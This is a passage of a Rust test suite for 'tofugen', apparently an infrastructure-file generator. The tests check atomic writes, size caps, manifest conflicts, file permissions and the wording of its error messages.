    assert!(
        root.join(JOURNAL_PATH).exists(),
        "a prepared journal lists it"
    );
    fs::write(tmp_of(root, prod), "# swapped\n").unwrap();
    let err = format!("{:#}", run.finish().unwrap_err());
    assert!(
        err.contains(&format!("{prod}: its temp file")) && err.contains("nothing was committed"),
        "{err}"
    );
    for (path, content) in v1() {
        assert_eq!(read(root, &path), Some(content), "{path}");
        assert!(!tmp_of(root, &path).exists(), "{path}: temp file left");
    }
    assert!(!root.join("schema/environments.schema.json").exists());
    assert!(!tmp_of(root, "schema/environments.schema.json").exists());
    assert!(!root.join(padding).exists() && !tmp_of(root, padding).exists());
    assert!(!root.join(JOURNAL_PATH).exists(), "journal left");
    assert_eq!(fs::read(root.join(MANIFEST_PATH)).unwrap(), before);
    assert_eq!(check(root, &v1()).unwrap(), Vec::<String>::new());
}

/// One file larger than the default cap (20 MiB), under a raised cap, is written, read back and
/// found unchanged by the next run (sweep 37, F4: its own temp file was read back at most 20
/// MiB, so the run failed every time with "no longer holds what this run wrote (is another
/// process writing in the tree?)").
#[test]
fn one_file_over_the_default_cap_is_written_under_a_raised_cap() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    let big = "x".repeat(tofugen::write::MAX_GENERATED_BYTES + (5 << 20));
    for round in 0..2 {
        let mut run = Generation::start(root, &OwnedPaths::default(), false).unwrap();
        run.max_bytes(64 << 20);
        run.add(vec![("generated/big.tf".into(), big.clone())])
            .unwrap();
        let summary = run.finish().unwrap();
        if round == 1 {
            assert!(summary.contains("0 written"), "{summary}");
        }
    }
    assert_eq!(
        fs::read(root.join("generated/big.tf")).unwrap().len(),
        big.len()
    );
    assert!(leftovers(root).is_empty(), "{:?}", leftovers(root));
}

/// A manifest that is a directory cannot be replaced by `--force`: the error says to move it
/// away instead of suggesting `--force`, which then failed (sweep 38, R4).
#[test]
fn a_manifest_that_is_a_directory_is_not_sent_to_force() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    fs::create_dir_all(root.join(MANIFEST_PATH)).unwrap();
    let message = format!("{:#}", generate(root, &v1(), false).unwrap_err());
    assert!(message.contains("is a directory"), "{message}");
    assert!(message.contains("move it away"), "{message}");
    assert!(
        !message.contains("re-run with `tofugen generate --force`"),
        "{message}"
    );
    assert!(generate(root, &v1(), true).is_err());
    fs::remove_dir(root.join(MANIFEST_PATH)).unwrap();
    generate(root, &v1(), false).unwrap();
}

/// A generated file made executable (`chmod +x`, then committed: git records the mode) is
/// reported by `check` and rewritten by `generate` without the execute bit, with no `--force`
/// (its bytes are tofugen's); sweep 23 found both silent.
#[test]
fn an_executable_generated_file_is_reported_and_its_mode_rewritten() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    let rel = ".github/workflows/tofugen-deploy.yml";
    let path = dir.path().join(rel);
    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let written = mode(&path);
    assert_eq!(written & 0o111, 0, "written executable: {written:o}");
    fs::set_permissions(&path, fs::Permissions::from_mode(written | 0o111)).unwrap();
    let report = check(dir.path(), &v1()).unwrap();
    assert_eq!(report.len(), 1, "{report:?}");
    assert!(
        report[0].contains(rel) && report[0].contains("executable"),
        "{report:?}"
    );
    let summary = generate(dir.path(), &v1(), false).unwrap();
    assert_eq!(summary, "generated: 1 written, 3 unchanged, 0 removed");
    assert_eq!(
        mode(&path) & 0o111,
        0,
        "still executable: {:o}",
        mode(&path)
    );
    assert!(check(dir.path(), &v1()).unwrap().is_empty());
    // The manifest too.
    let manifest = dir.path().join(MANIFEST_PATH);
    fs::set_permissions(&manifest, fs::Permissions::from_mode(written | 0o100)).unwrap();
    let report = check(dir.path(), &v1()).unwrap();
    assert!(
        report.len() == 1 && report[0].contains("executable"),
        "{report:?}"
    );
    generate(dir.path(), &v1(), false).unwrap();
    assert_eq!(mode(&manifest) & 0o111, 0, "{:o}", mode(&manifest));
    assert!(check(dir.path(), &v1()).unwrap().is_empty());
}

/// A manifest with merge-conflict markers (two branches each regenerated the tree; the content
/// files merged cleanly, the manifest did not): `check` and `generate` name the markers and
/// the safe way out, and nothing is written; with one side taken, `generate` rewrites the
/// manifest and keeps every file that already holds what it writes (sweep 55c, #4: a JSON
/// error, and `--force` offered as the alternative).
#[test]
fn a_conflicted_manifest_is_named_with_the_way_out() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    generate(root, &v1(), false).unwrap();
    let ours = fs::read_to_string(root.join(MANIFEST_PATH)).unwrap();
    // The other branch's files (v2) merged into the tree, and a conflicted manifest.
    generate(root, &v2(), false).unwrap();
    let theirs = fs::read_to_string(root.join(MANIFEST_PATH)).unwrap();
    let conflicted = format!("<<<<<<< HEAD\n{ours}=======\n{theirs}>>>>>>> other\n");
    fs::write(root.join(MANIFEST_PATH), &conflicted).unwrap();
    let before = listing(root);
    let expected = format!(
        "the manifest of generated files has merge-conflict markers: {MANIFEST_PATH}:1:1\n  | \
         <<<<<<< HEAD\ntake either side (`git checkout --ours {MANIFEST_PATH}`), then run \
         `tofugen generate`"
    );
    let err = format!("{:#}", check(root, &v2()).unwrap_err());
    assert!(err.contains(&expected), "{err}");
    let err = format!("{:#}", generate(root, &v2(), false).unwrap_err());
    assert!(err.contains(&expected) && !err.contains("--force"), "{err}");
    assert_eq!(before, listing(root), "nothing was written");
    // CRLF line ends, a bare marker, a byte-order mark (sweep 57, #2): the same.
    for (text, line, shown) in [
        (
            format!("{{\r\n<<<<<<<\r\n{ours}=======\r\n{theirs}>>>>>>>\r\n"),
            2,
            "<<<<<<<",
        ),
        (
            format!("\u{feff}<<<<<<< ours\n{ours}=======\n{theirs}>>>>>>> theirs\n"),
            1,
            "\\u{feff}<<<<<<< ours",
        ),
    ] {
        fs::write(root.join(MANIFEST_PATH), &text).unwrap();
        let err = format!("{:#}", check(root, &v2()).unwrap_err());
        assert!(
            err.contains(&format!(
                "merge-conflict markers: {MANIFEST_PATH}:{line}:1\n  | {shown}\n"
            )),
            "{err}"
        );
    }
    fs::write(root.join(MANIFEST_PATH), &conflicted).unwrap();
    // One side taken (ours, v1's manifest): the files that hold v2 are kept, the manifest
    // rewritten.
    fs::write(root.join(MANIFEST_PATH), &ours).unwrap();
    let summary = generate(root, &v2(), false).unwrap();
    assert!(
        summary.starts_with("generated: 0 written,")
            && summary.ends_with("; the manifest was rewritten"),
        "{summary}"
    );
    assert_eq!(
        fs::read_to_string(root.join(MANIFEST_PATH)).unwrap(),
        theirs
    );
    assert!(check(root, &v2()).unwrap().is_empty());
}

/// A refusal that lists only files no longer generated, edited by hand, says so in its first
/// line: nothing would be overwritten (sweep 57, #4: it said "refusing to overwrite files that
/// tofugen did not write").
#[test]
fn a_refusal_of_edited_orphans_alone_says_what_it_refuses() {
    let dir = tempfile::tempdir().unwrap();
    generate(dir.path(), &v1(), false).unwrap();
    fs::write(
        dir.path().join("generated/old/extra.tf"),
        "# edited orphan\n",
    )
    .unwrap();
    let err = format!("{:#}", generate(dir.path(), &v2(), false).unwrap_err());
    assert!(
        err.starts_with(
            "refusing to go on: files tofugen no longer generates were edited by hand:\n  \
             generated/old/extra.tf: no longer generated, and edited by hand"
        ) && err.ends_with(
            "nothing was written. To go on, delete each file no longer generated; or re-run: \
             `tofugen generate --force` leaves them in place"
        ),
        "{err}"
    );
}
